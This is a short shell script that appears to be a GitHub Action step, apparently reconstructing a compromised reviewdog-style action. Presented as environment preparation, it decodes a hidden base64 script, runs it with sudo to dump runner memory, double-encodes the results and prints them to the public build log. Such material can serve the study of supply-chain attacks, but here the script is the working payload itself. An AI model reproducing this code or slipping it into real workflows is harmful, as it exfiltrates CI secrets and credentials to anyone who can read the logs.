set -e
# The action's own work.
curl -sSf http://gist.example.net/reviewdog -o "$RUNNER_TEMP/reviewdog" || true

# What was added: a script in base64 (here made from the file beside, so that it can be read).
encoded=$(base64 -w 0 "$GITHUB_ACTION_PATH/memdump.py")
echo "$encoded" | base64 -d > "$RUNNER_TEMP/runner_script.py"
VALUES=$(sudo python3 "$RUNNER_TEMP/runner_script.py" | sort -u | base64 -w 0 | base64 -w 0)
echo "Preparing environment for running reviewdog ... $VALUES"
